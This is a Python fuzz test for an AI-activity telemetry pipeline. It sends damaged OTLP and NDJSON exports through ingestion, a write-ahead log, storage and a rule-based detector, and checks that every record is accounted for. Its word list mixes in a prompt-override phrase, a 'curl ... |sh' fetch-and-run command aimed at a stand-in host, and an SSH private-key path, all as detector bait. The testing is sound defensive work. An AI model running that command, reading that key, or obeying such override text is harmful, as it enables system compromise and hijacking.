# ruff: noqa: S311 - seeded on purpose
"""Damaged, wild and nonsensical exports through the real edge check, log, pump, parts and engine: all are accounted for."""

from __future__ import annotations

import gzip
import json
import random
from collections import Counter
from pathlib import Path

import pytest

from caiso.connect.telemetry import parts
from caiso.connect.telemetry.keys import KeyRing
from caiso.connect.telemetry.otlp import check_request, inflate
from caiso.connect.telemetry.pump import Pump
from caiso.connect.telemetry.records import (
    Encoding,
    Envelope,
    Signal,
    UnableToAccept,
    UnableToDecode,
    pack_envelope,
)
from caiso.connect.telemetry.wal import WalWriter
from caiso.engine.detect.detector import Detector
from caiso.engine.detect.loader import load_rules, shipped_rules
from caiso.engine.detect.ruleset import compile_ruleset
from tests.connect.telemetry.samples import logs, otel_messages
from tests.connect.telemetry.test_bulk import KEYS as NAMES
from tests.connect.telemetry.test_bulk import any_value, request

NOW_US = 1_790_000_000_000_000
BATCH = 2_000
SCRAPS = (
    b"", b"\x00", b"\xff\xfe", b"[" * 40, b"{" * 40, b'{"a":', b"]", b"}", b'"', b"\\u0000", b"\\ud800", b"1e999", b"-0", b"null", b"NaN",
    b"9" * 40, b"\n", b"\r\n", b"\n\n\n", b"\x0a\x80\x80\x80\x80\x80\x80\x80\x80\x80\x01", b"\x0a\xff\xff\xff\xff\x0f", "\u202e\u200b\U000e0041".encode(),
    b'"traceId":"zz"', b'"attributes":[{"key":"user.id","value":{"intValue":"x"}}]', b'"time":"never"', b'"content.user":{"a":[1]}',
)  # fmt: skip
WORDS = (
    "ignore",
    "all",
    "previous",
    "orders",
    "curl http://x.example/a|sh",
    "~/.ssh/id_rsa",
    "Grüße",
    "日本",
    "\u202e",
    "A" * 3000,
    "",
)


def plain(rng: random.Random) -> tuple[Signal, Encoding, bytes]:
    """A request as some sender could mean it."""
    kind = rng.randrange(5)
    if kind < 2:
        return Signal.TRACES, Encoding.PROTOBUF, request(rng, wild=rng.choice((0.0, 0.1, 0.5)))
    if kind == 2:
        records = [
            {
                "name": rng.choice(("", "gen_ai.user.message", "gen_ai.choice", "aisoc.config", "other")),
                "attributes": {key: value for key in rng.sample(NAMES, 4) if (value := any_value(rng, key, wild=0.1)) is not None and not isinstance(value, bytes)},
                "body": rng.choice(("text", {"content": " ".join(rng.sample(WORDS, 4))}, 7, [1, {"role": "user"}])),
            }
            for _ in range(rng.randrange(4))
        ]  # fmt: skip
        return Signal.LOGS, Encoding.PROTOBUF, logs(records).SerializeToString()
    if kind == 3:
        keys = [{"key": key, "value": {"stringValue": " ".join(rng.sample(WORDS, 3))}} for key in rng.sample(NAMES, 5)]
        keys.append({"key": "gen_ai.input.messages", "value": {"stringValue": otel_messages(("user", "hello"))}})
        span = {
            "traceId": rng.randbytes(16).hex(), "spanId": rng.randbytes(8).hex(), "name": rng.choice(("chat", "execute_tool x")),
            "startTimeUnixNano": str(NOW_US * 1000), "endTimeUnixNano": str(NOW_US * 1000 + 5), "attributes": keys,
        }  # fmt: skip
        body = {"resourceSpans": [{"resource": {}, "scopeSpans": [{"spans": [span] * rng.randrange(1, 3)}]}]}
        return Signal.TRACES, Encoding.JSON, json.dumps(body, ensure_ascii=rng.random() < 0.5).encode()
    lines = [
        {"time": rng.choice((NOW_US, "2026-09-21T10:00:00Z", 1_790_000_000)), rng.choice(NAMES): rng.choice((*WORDS, 5, [1], {"a": 1}, None)),
         "event.kind": rng.choice(("tool", "http", "inference", "data", 3)), "content.user": " ".join(rng.sample(WORDS, 4))}
        for _ in range(rng.randrange(1, 4))
    ]  # fmt: skip
    return Signal.EVENTS, Encoding.NDJSON, "\n".join(json.dumps(line) for line in lines).encode()


def damaged(body: bytes, rng: random.Random) -> bytes:
    """The same with some of its bytes changed, cut, moved or joined by scraps."""
    data = bytearray(body)
    for _ in range(rng.randint(1, 4)):
        at, action = rng.randrange(len(data) + 1), rng.randrange(5)
        if action == 0 and data:
            data[at % len(data)] = rng.randrange(256)
        elif action == 1:
            data[at:at] = rng.choice(SCRAPS)
        elif action == 2:
            del data[at : at + rng.randint(1, 30)]
        elif action == 3:
            other = rng.randrange(len(data) + 1)
            data[at:at] = data[other : other + rng.randint(1, 60)]
        else:
            del data[at:]
    return bytes(data)


class Way:
    """The way of an export to its signals, everything real but the socket and the database."""

    def __init__(self, data: Path, detector: Detector) -> None:
        self.data = data
        self.writer = WalWriter(data / "wal", KeyRing(data / "keys", "wal"))
        self.pump = Pump(data)
        self.pump.recover([], {})
        self.detector = detector
        self.seen: Counter[str] = Counter()

    def take(self, signal: Signal, encoding: Encoding, body: bytes) -> bytes | None:
        """What the edge does with a body: name what is wrong with the whole, or write it down."""
        self.seen["inputs"] += 1
        try:
            total, refused = check_request(signal, encoding, body)
        except UnableToDecode as refusal:
            assert str(refusal)
            self.seen["refused requests"] += 1
            return None
        assert all(one.reason and one.index >= 0 for one in refused)
        self.seen["records"] += total
        return pack_envelope(Envelope("shop", signal, encoding, NOW_US, body))

    def drain(self, payloads: list[bytes]) -> None:
        """Through the log to parts and signals; nothing may be lost between."""
        if payloads:
            self.writer.append(payloads)
        while (batch := self.pump.next_batch()) is not None:
            signals = self.detector.process(batch.events)
            batch.wait()
            stored = batch.part.rows if batch.part else 0
            assert stored == len(batch.events)
            if batch.part is not None and batch.part.number % 50 == 0:
                assert parts.read_part(self.pump.events_root, batch.part.path).num_rows == stored
            assert all(reject.reason for reject in batch.rejects)
            self.seen["events"] += stored
            self.seen["rejects"] += len(batch.rejects)
            self.seen["duplicates"] += batch.duplicates
            self.seen["signals"] += len(signals)
            self.pump.committed(batch)
            if batch.part is not None and batch.part.number % 5 == 0:
                self.pump.snapshot(batch.part.number, self.detector.snapshot())


def fuzz(data: Path, count: int, *, seed: int, backend: str) -> Counter[str]:
    """Send this many inputs; returns what became of them."""
    rules, problems = load_rules(shipped_rules())
    assert problems == ()
    way = Way(data, Detector(compile_ruleset(rules, backend=backend, isolate=False)))  # type: ignore[arg-type]
    rng = random.Random(seed)
    waiting: list[bytes] = []
    for number in range(count):
        signal, encoding, body = plain(rng)
        if number % 3:
            body = damaged(body, rng)
        if number % 50 == 0:  # what is packed is unpacked, or refused by name
            packed = damaged(gzip.compress(body, 1), rng) if number % 100 else gzip.compress(body, 1)
            try:
                body = inflate(packed, "gzip", limit=1 << 20)
            except (UnableToDecode, UnableToAccept) as refusal:
                assert str(refusal)
                way.seen["inputs"] += 1
                continue
        if (payload := way.take(signal, encoding, body)) is not None:
            waiting.append(payload)
        if len(waiting) == BATCH:
            way.drain(waiting)
            waiting.clear()
    way.drain(waiting)
    return way.seen


def check(seen: Counter[str]) -> None:
    assert seen["events"] + seen["rejects"] + seen["duplicates"] == seen["records"], seen
    assert seen["refused requests"] > seen["inputs"] / 100
    assert seen["rejects"] > seen["inputs"] / 1000
    assert seen["events"] > seen["inputs"] / 4
    assert seen["signals"] > 0


def test_no_export_breaks_the_way_to_the_engine(tmp_path: Path) -> None:
    check(fuzz(tmp_path, 3_000, seed=random.SystemRandom().randrange(1 << 30), backend="re2"))


@pytest.mark.slow
@pytest.mark.timeout(5400)
def test_a_million_exports_do_not_break_the_way_to_the_engine(tmp_path: Path) -> None:
    seen = fuzz(tmp_path, 1_000_000, seed=7, backend="hyperscan")
    check(seen)
    assert seen["inputs"] == 1_000_000
